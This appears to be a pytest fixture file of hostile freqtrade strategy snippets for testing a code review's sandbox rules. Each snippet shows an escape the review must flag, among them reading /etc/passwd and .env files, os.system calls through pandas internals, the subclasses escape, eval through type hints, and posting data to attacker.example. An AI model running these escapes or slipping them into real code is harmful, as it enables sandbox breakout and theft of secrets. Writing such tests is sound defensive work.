"""Hostile strategy code shared by the review's unit tests and the API-level hostile-strategy tests.

Each snippet goes into an otherwise valid strategy module: ``top`` lines after the imports, ``body`` lines
inside ``populate_indicators``, ``tail`` lines after the class. The line that must be reported ends with the
marker ``#!``; ``rule`` is the review rule it must break there. The module's strategy has a private helper
method, ``self._helper(...)``, which the review allows while ``self`` can only be the strategy.
"""

from __future__ import annotations

import textwrap

import pytest

MARK = "#!"


def probe(top: str = "", body: str = "", tail: str = "", base: str = "IStrategy", name: str = "Probe") -> str:
    """A valid strategy module (class ``name``) with the snippets spliced in."""
    indented_body = textwrap.indent(textwrap.dedent(body).strip("\n"), " " * 8)
    return "\n".join(
        [
            "from freqtrade.strategy import IStrategy",
            "from pandas import DataFrame",
            textwrap.dedent(top).strip("\n"),
            "",
            "",
            f"class {name}({base}):",
            "    timeframe = '5m'",
            "    stoploss = -0.1",
            "    minimal_roi = {'0': 0.1}",
            "",
            "    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:",
            indented_body,
            "        return dataframe",
            "",
            "    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:",
            "        dataframe.loc[dataframe['close'] > dataframe['open'], 'enter_long'] = 1",
            "        return dataframe",
            "",
            "    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:",
            "        return self._helper(dataframe)",
            "",
            "    def _helper(self, value):",
            "        return value",
            tail,
        ]
    )


def marked_line(code: str) -> int:
    (line,) = [number for number, text in enumerate(code.splitlines(), start=1) if text.rstrip().endswith(MARK)]
    return line


LOGGER = "import logging\nlogger = logging.getLogger(__name__)"
# Issue 14: the review allows a few idioms of ordinary strategies in context; each allowance's harmful neighbours.
NEAR_MISSES = [
    # logging: a logger that only logs
    pytest.param("import logging", "logging.basicConfig(filename='/tmp/x')  #!", "logging", id="logging-basic-config"),
    pytest.param("import logging\nhandler = logging.FileHandler('/tmp/x')  #!", "", "logging", id="logging-handler"),
    pytest.param("import logging", "root = logging.root  #!", "logging", id="logging-root"),
    pytest.param("import logging", "logging.info('x')  #!", "logging", id="logging-module-level-call"),
    pytest.param(LOGGER, "logger.addHandler(None)  #!", "logging", id="logger-add-handler"),
    pytest.param(LOGGER, "logger.setLevel(0)  #!", "logging", id="logger-set-level"),
    pytest.param(LOGGER, "stream = logger.handlers  #!", "logging", id="logger-handlers"),
    pytest.param(LOGGER, "alias = logger  #!", "logging", id="logger-alias"),
    pytest.param(LOGGER, "print(logger)  #!", "logging", id="logger-passed-on"),
    pytest.param(LOGGER, "logger = dataframe  #!", "logging", id="logger-rebound"),
    pytest.param(
        "import logging\nlogger = logging.getLogger(__name__).manager  #!", "", "logging", id="logger-manager"
    ),
    pytest.param(
        "import logging\nlogger = logging.getLogger(__import__('os').environ['HOME'])  #!",
        "",
        "forbidden-name",
        id="logger-name-evaluated",
    ),
    pytest.param("import logging\nlogger = logging.getLogger(__file__)  #!", "", "dunder-access", id="logger-file"),
    # str.format: plain fields on a literal only
    pytest.param("", "name = '{0[0]}'.format(self.dp)  #!", "forbidden-attribute", id="format-index-field"),
    pytest.param("", "name = '{:{0.__class__}}'.format(1)  #!", "forbidden-attribute", id="format-nested-spec"),
    pytest.param("", "template = 'ema_{}'\nname = template.format(1)  #!", "forbidden-attribute", id="format-var"),
    pytest.param("", "name = 'x{}'.format_map({})  #!", "forbidden-attribute", id="format-map-literal"),
    # aggregation dicts: reduction names only, never changed, only passed to .agg & co
    pytest.param("", "how = {'close': 'to_csv'}\ndataframe.agg(how)  #!", "string-dispatch", id="agg-dict-other-name"),
    pytest.param(
        "",
        "how = {'close': 'last'}\nhow['close'] = 'to_pickle'\ndataframe.agg(how)  #!",
        "string-dispatch",
        id="agg-dict-changed",
    ),
    pytest.param(
        "", "how = {'close': 'last'}\nhow = 'to_csv'\ndataframe.agg(how)  #!", "string-dispatch", id="agg-rebound"
    ),
    pytest.param(
        "",
        "how = {'close': 'last'}\nhow.update(close='to_csv')\ndataframe.agg(how)  #!",
        "string-dispatch",
        id="agg-dict-updated",
    ),
    # freqtrade.strategy submodules: only the names each defines
    pytest.param(
        "from freqtrade.strategy.interface import logger  #!", "", "import-allow-list", id="ft-interface-logger"
    ),
    pytest.param(
        "from freqtrade.strategy.interface import Wallets  #!", "", "import-allow-list", id="ft-interface-import"
    ),
    pytest.param(
        "import freqtrade.strategy.interface as interface  #!", "", "import-allow-list", id="ft-interface-module"
    ),
    pytest.param("from freqtrade.strategy.hyper import HyperStrategyMixin  #!", "", "import-allow-list", id="ft-hyper"),
    # module-level metadata: a literal under a name the interpreter does not read
    pytest.param("__name__ = 'freqtrade.strategy'  #!", "", "dunder-access", id="meta-name"),
    pytest.param("__path__ = ['/tmp']  #!", "", "dunder-access", id="meta-path"),
    pytest.param("__builtins__ = {}  #!", "", "forbidden-name", id="meta-builtins"),
    pytest.param("__author__ = dict(a=1)  #!", "", "dunder-access", id="meta-call"),
    pytest.param("", "__author__ = 'x'  #!", "dunder-access", id="meta-in-method"),
    # self._helper: the strategy's own private methods, while self can only be the strategy
    pytest.param("", "x = self._private  #!", "private-access", id="self-private-not-a-method"),
    pytest.param("", "x = self.dp._helper  #!", "private-access", id="other-object-private"),
    pytest.param("", "self = self.dp\nx = self._helper  #!", "private-access", id="self-rebound"),
    pytest.param("", "f = lambda self: self._helper  #!", "private-access", id="self-lambda-parameter"),
    pytest.param("", "x = [self._helper for self in [self.dp]]  #!", "private-access", id="self-comprehension"),
    pytest.param("", "kind = type(self)\nx = self._helper  #!", "private-access", id="class-by-type"),
    pytest.param("", "self._helper = None  #!", "private-access", id="self-helper-assigned"),
]

# The review's corpus: each rule, with the ways around it found so far.
HOSTILE = [
    # Found by review of the review: string dispatch and module attribute chains.
    pytest.param("", "dataframe.apply('to_csv', path_or_buf='/tmp/x')  #!", "string-dispatch", id="apply-to-csv"),
    pytest.param("", "dataframe.agg('to_' + 'csv', path_or_buf='/tmp/x')  #!", "string-dispatch", id="agg-built-name"),
    pytest.param(
        "", "name = 'to_pickle'\ndataframe.transform(name, '/tmp/x')  #!", "string-dispatch", id="transform-var"
    ),
    pytest.param("", "dataframe.pipe(f'{chr(116)}o_csv')  #!", "string-dispatch", id="pipe-fstring"),
    pytest.param("import freqtrade.strategy  #!", "", "import-allow-list", id="dotted-plain-import"),
    pytest.param(
        "import freqtrade.strategy as fts", "fts.interface.logger  #!", "module-access", id="reach-module-by-chain"
    ),
    pytest.param("import pandas as pd", "pd.io.common.os.remove('/tmp/x')  #!", "module-access", id="pandas-io-os"),
    pytest.param("from pandas import io  #!", "", "forbidden-name", id="from-pandas-import-io-module"),
    pytest.param(
        "from freqtrade.persistence import models  #!", "", "import-allow-list", id="freqtrade-persistence-models"
    ),
    pytest.param(
        "import numpy as np", "np.ctypeslib.load_library('x', '.')  #!", "forbidden-attribute", id="np-ctypeslib"
    ),
    # imports outside the allow-list
    pytest.param("import os  #!", "", "import-allow-list", id="import-os"),
    pytest.param("import subprocess  #!", "", "import-allow-list", id="import-subprocess"),
    pytest.param("from os import system  #!", "", "import-allow-list", id="from-os-import-system"),
    pytest.param("import socket  #!", "", "import-allow-list", id="import-socket"),
    pytest.param("import importlib  #!", "", "import-allow-list", id="import-importlib"),
    pytest.param("import pickle  #!", "", "import-allow-list", id="import-pickle"),
    pytest.param("import sys  #!", "", "import-allow-list", id="import-sys"),
    pytest.param("import builtins  #!", "", "import-allow-list", id="import-builtins"),
    pytest.param("import ctypes  #!", "", "import-allow-list", id="import-ctypes"),
    pytest.param("from pathlib import Path  #!", "", "import-allow-list", id="from-pathlib"),
    pytest.param("import urllib.request  #!", "", "import-allow-list", id="import-urllib-request"),
    pytest.param("import requests  #!", "", "import-allow-list", id="import-requests"),
    pytest.param("import logging.handlers as handlers  #!", "", "import-allow-list", id="import-logging-handlers"),
    pytest.param("from logging import FileHandler  #!", "", "import-allow-list", id="from-logging-import"),
    pytest.param("from . import x  #!", "", "import-allow-list", id="relative-import"),
    pytest.param("from .. import x  #!", "", "import-allow-list", id="relative-import-parent"),
    pytest.param("from pandas import *  #!", "", "import-allow-list", id="star-import"),
    pytest.param("from freqtrade.misc import file_dump_json  #!", "", "import-allow-list", id="freqtrade-misc"),
    pytest.param("import freqtrade.misc  #!", "", "import-allow-list", id="import-freqtrade-misc"),
    pytest.param("from freqtrade import misc  #!", "", "import-allow-list", id="from-freqtrade-import-misc"),
    pytest.param("from freqtrade import configuration  #!", "", "import-allow-list", id="freqtrade-configuration"),
    pytest.param("import freqtrade.rpc  #!", "", "import-allow-list", id="import-freqtrade-rpc"),
    pytest.param("from pandas.io.common import get_handle  #!", "", "import-allow-list", id="pandas-io-module"),
    pytest.param("import numpy.lib.format  #!", "", "import-allow-list", id="numpy-format-module"),
    pytest.param("from pandas._libs import lib  #!", "", "import-allow-list", id="private-module"),
    # importing a forbidden attribute by name is using it
    pytest.param("from numpy import load  #!", "", "forbidden-attribute", id="from-numpy-import-load"),
    pytest.param("from pandas import read_pickle  #!", "", "forbidden-attribute", id="from-pandas-import-read"),
    pytest.param("from pandas import eval  #!", "", "forbidden-name", id="from-pandas-import-eval"),
    pytest.param("from numpy import fromfile as ff  #!", "", "forbidden-attribute", id="from-import-as"),
    pytest.param("from numpy import _core  #!", "", "private-access", id="from-import-private"),
    pytest.param("from typing import __loader__  #!", "", "forbidden-name", id="from-import-dunder"),
    pytest.param("import numpy as os  #!", "", "forbidden-name", id="alias-shadowing-os"),
    # built-ins that evaluate, import or reach the interpreter
    pytest.param("", "__import__('os')  #!", "forbidden-name", id="dunder-import"),
    pytest.param("", "exec('1')  #!", "forbidden-name", id="exec"),
    pytest.param("", "eval('1')  #!", "forbidden-name", id="eval"),
    pytest.param("", "compile('1', 'x', 'exec')  #!", "forbidden-name", id="compile"),
    pytest.param("", "open('/etc/passwd')  #!", "forbidden-name", id="open"),
    pytest.param("", "globals()  #!", "forbidden-name", id="globals"),
    pytest.param("", "locals()  #!", "forbidden-name", id="locals"),
    pytest.param("", "vars(self)  #!", "forbidden-name", id="vars"),
    pytest.param("", "getattr(self, '__class__')  #!", "forbidden-name", id="getattr"),
    pytest.param("", "setattr(self, 'stoploss', -0.5)  #!", "forbidden-name", id="setattr"),
    pytest.param("", "delattr(self, 'stoploss')  #!", "forbidden-name", id="delattr"),
    pytest.param("", "breakpoint()  #!", "forbidden-name", id="breakpoint"),
    pytest.param("", "input()  #!", "forbidden-name", id="input"),
    pytest.param("", "f = lambda: __builtins__  #!", "forbidden-name", id="lambda-builtins"),
    pytest.param("", "x = [os for os in range(3)]  #!", "forbidden-name", id="name-os-even-as-a-variable"),
    # dunder and private access
    pytest.param("", "().__class__.__bases__[0].__subclasses__()  #!", "dunder-access", id="subclasses-escape"),
    pytest.param("", "d = self.__dict__  #!", "dunder-access", id="self-dict"),
    pytest.param("", "x = __name__  #!", "dunder-access", id="dunder-name"),
    pytest.param("", "x = self._private  #!", "private-access", id="private-attribute"),
    pytest.param("", "x = self.dp._exchange  #!", "private-access", id="private-exchange"),
    # I/O and string evaluation through attributes
    pytest.param("", "'{0.__class__}'.format(self)  #!", "forbidden-attribute", id="str-format"),
    pytest.param("", "'{x}'.format_map({})  #!", "forbidden-attribute", id="str-format-map"),
    pytest.param("import pandas as pd", "pd.read_csv('x')  #!", "forbidden-attribute", id="pd-read-csv"),
    pytest.param("", "dataframe.to_csv('x')  #!", "forbidden-attribute", id="to-csv"),
    pytest.param("", "dataframe.to_pickle('x')  #!", "forbidden-attribute", id="to-pickle"),
    pytest.param("", "dataframe.to_string('x')  #!", "forbidden-attribute", id="to-string-buf"),
    pytest.param("", "dataframe.values.dump('x')  #!", "forbidden-attribute", id="ndarray-dump"),
    pytest.param("import numpy", "numpy.load('x')  #!", "forbidden-attribute", id="numpy-load"),
    pytest.param("import numpy as np", "np.fromfile('x')  #!", "forbidden-attribute", id="numpy-fromfile"),
    pytest.param("import pandas as pd", "pd.HDFStore('x')  #!", "forbidden-attribute", id="hdfstore"),
    pytest.param("import pandas as pd", "pd.io.common.os.system('id')  #!", "forbidden-attribute", id="pd-io-os"),
    pytest.param("", "dataframe.eval('a + b')  #!", "forbidden-attribute", id="dataframe-eval"),
    pytest.param("", "dataframe.query('a > 1')  #!", "forbidden-attribute", id="dataframe-query"),
    pytest.param("import pandas as pd", "pd.eval('1 + 1')  #!", "forbidden-attribute", id="pd-eval"),
    pytest.param("import freqtrade.strategy", "freqtrade.misc.sys  #!", "forbidden-attribute", id="module-sys"),
    # statements
    pytest.param("", "global x  #!", "no-global", id="global"),
    pytest.param("", "def inner():\n    nonlocal dataframe  #!", "no-global", id="nonlocal"),
    pytest.param("print('x')  #!", "", "top-level", id="top-level-call"),
    *NEAR_MISSES,
    pytest.param("if True:  #!\n    pass", "", "top-level", id="top-level-if"),
    pytest.param("for i in range(3):  #!\n    pass", "", "top-level", id="top-level-for"),
    pytest.param("try:  #!\n    pass\nexcept Exception:\n    pass", "", "top-level", id="top-level-try"),
]


# What a strategy might try at backtest time (inside populate_indicators): read the environment, open files or
# sockets, import what it may not through tricks, do I/O or evaluate strings through pandas/numpy, unpickle.
RUNTIME_PROBES = [
    # the environment
    pytest.param("import os  #!", "dataframe['n'] = len(os.environ)", "import-allow-list", id="env-import-os"),
    pytest.param("import pandas as pd", "env = pd.io.common.os.environ  #!", "forbidden-attribute", id="env-pd-io-os"),
    pytest.param("import numpy as np", "env = np.testing.os.environ  #!", "forbidden-attribute", id="env-np-testing"),
    pytest.param(
        "", "env = self.__class__.__init__.__globals__['os'].environ  #!", "dunder-access", id="env-via-globals"
    ),
    pytest.param("from freqtrade.strategy import interface  #!", "", "import-allow-list", id="env-ft-interface"),
    # Found here: typing.get_type_hints and singledispatch.register evaluate string annotations.
    pytest.param(
        "import typing",
        "def peek(x: \"__import__('os').environ\"):\n    pass\nhints = typing.get_type_hints(peek)  #!",
        "forbidden-attribute",
        id="env-get-type-hints",
    ),
    pytest.param(
        "from typing import get_type_hints  #!", "", "forbidden-attribute", id="env-from-typing-get-type-hints"
    ),
    pytest.param(
        "import functools",
        "dispatch = functools.singledispatch(len)  #!\n"
        "def peek(x: \"__import__('os').system('id') or int\"):\n    pass\ndispatch.register(peek)",
        "forbidden-attribute",
        id="env-singledispatch",
    ),
    pytest.param("from typing import ForwardRef  #!", "", "forbidden-attribute", id="env-forward-ref"),
    # files: system files, the data folder, other users, the API's .env
    pytest.param("", "text = open('/etc/passwd').read()  #!", "forbidden-name", id="file-open-passwd"),
    pytest.param("", "text = open('../../../.env').read()  #!", "forbidden-name", id="file-open-dotenv"),
    pytest.param("import pandas as pd", "pd.read_csv('/etc/passwd')  #!", "forbidden-attribute", id="file-read-csv"),
    pytest.param(
        "import pandas as pd",
        "other = pd.read_feather('../../../market/binance/BTC_USDT-1h.feather')  #!",
        "forbidden-attribute",
        id="file-read-data-dir",
    ),
    pytest.param(
        "",
        "dataframe.to_csv('../../../user_bob/user_data/strategies/Evil.py')  #!",
        "forbidden-attribute",
        id="file-to-csv",
    ),
    pytest.param(
        "import numpy as np", "np.lib.npyio.NpzFile('/etc/passwd')  #!", "forbidden-attribute", id="file-npzfile"
    ),
    pytest.param(
        "import pandas as pd",
        "pd.show_versions(as_json='/tmp/versions.json')  #!",
        "forbidden-attribute",
        id="file-show-versions",
    ),
    pytest.param(
        "from freqtrade.persistence import init_db  #!",
        "init_db('sqlite:////tmp/evil.sqlite')",
        "forbidden-attribute",
        id="file-init-db",
    ),
    pytest.param(
        "from freqtrade.persistence import Trade",
        "Trade.session.connection()  #!",
        "forbidden-attribute",
        id="file-trade-session",
    ),
    pytest.param(
        "", "dataframe.plot().figure.savefig('/tmp/x.png')  #!", "forbidden-attribute", id="file-plot-savefig"
    ),
    pytest.param(
        "import numpy as np",
        "with np.testing.tempdir() as folder:  #!\n    pass",
        "forbidden-attribute",
        id="file-np-tempdir",
    ),
    # sockets
    pytest.param("import socket  #!", "", "import-allow-list", id="net-socket"),
    pytest.param("import urllib.request as request  #!", "", "import-allow-list", id="net-urllib"),
    pytest.param("from freqtrade.exchange import Binance  #!", "", "network", id="net-exchange-class"),
    pytest.param("import freqtrade.exchange as fe", "fe.Exchange({})  #!", "network", id="net-exchange-attribute"),
    pytest.param(
        "import pandas as pd", "pd.read_html('http://attacker.example/')  #!", "forbidden-attribute", id="net-read-html"
    ),
    pytest.param(
        "", "dataframe.to_json('http://attacker.example/drop')  #!", "forbidden-attribute", id="net-to-json-url"
    ),
    # imports through tricks
    pytest.param("import importlib  #!", "", "import-allow-list", id="trick-importlib"),
    pytest.param("", "lib = __import__('ctypes')  #!", "forbidden-name", id="trick-dunder-import"),
    pytest.param("", "loader = __builtins__['__import__']  #!", "forbidden-name", id="trick-builtins"),
    pytest.param("", "writer = getattr(dataframe, 'to_' + 'csv')  #!", "forbidden-name", id="trick-getattr"),
    pytest.param("", "found = ().__class__.__mro__[-1].__subclasses__()  #!", "dunder-access", id="trick-subclasses"),
    pytest.param("", "scope = vars(self)  #!", "forbidden-name", id="trick-vars"),
    pytest.param("", "g = (lambda: 0).__globals__  #!", "dunder-access", id="trick-lambda-globals"),
    pytest.param(
        "import numpy as np", "np.f2py.run_main(['-c', 'evil.f'])  #!", "forbidden-attribute", id="trick-f2py"
    ),
    pytest.param("from numpy.f2py import run_main  #!", "", "import-allow-list", id="trick-from-f2py"),
    pytest.param(
        "import pandas as pd", "pd.test(extra_args=['-p', 'evil'])  #!", "forbidden-attribute", id="trick-pd-test"
    ),
    # string evaluation and (un)pickling through pandas / numpy
    pytest.param("", "dataframe.eval('x = close * 2')  #!", "forbidden-attribute", id="eval-df-eval"),
    pytest.param("", "dataframe.query('close > open')  #!", "forbidden-attribute", id="eval-df-query"),
    pytest.param("import pandas as pd", "pd.eval(\"__import__('os')\")  #!", "forbidden-attribute", id="eval-pd-eval"),
    pytest.param(
        "import pandas as pd",
        "expr = pd.core.computation.expr.Expr('close > open')  #!",
        "forbidden-attribute",
        id="eval-computation-expr",
    ),
    pytest.param(
        "from pandas.core.computation.expr import Expr  #!", "", "import-allow-list", id="eval-from-computation"
    ),
    pytest.param("import pickle  #!", "", "import-allow-list", id="pickle-import"),
    pytest.param("", "dataframe.to_pickle('/tmp/x.pkl')  #!", "forbidden-attribute", id="pickle-to-pickle"),
    pytest.param(
        "import pandas as pd", "pd.read_pickle('/tmp/x.pkl')  #!", "forbidden-attribute", id="pickle-read-pickle"
    ),
    pytest.param(
        "import numpy as np",
        "np.load('/tmp/x.npy', allow_pickle=True)  #!",
        "forbidden-attribute",
        id="pickle-np-load",
    ),
    pytest.param(
        "", "dataframe.apply('to_pickle', path='/tmp/x.pkl')  #!", "string-dispatch", id="pickle-string-dispatch"
    ),
    pytest.param("", "dataframe.style.to_html('/tmp/x.html')  #!", "forbidden-attribute", id="file-styler-to-html"),
]
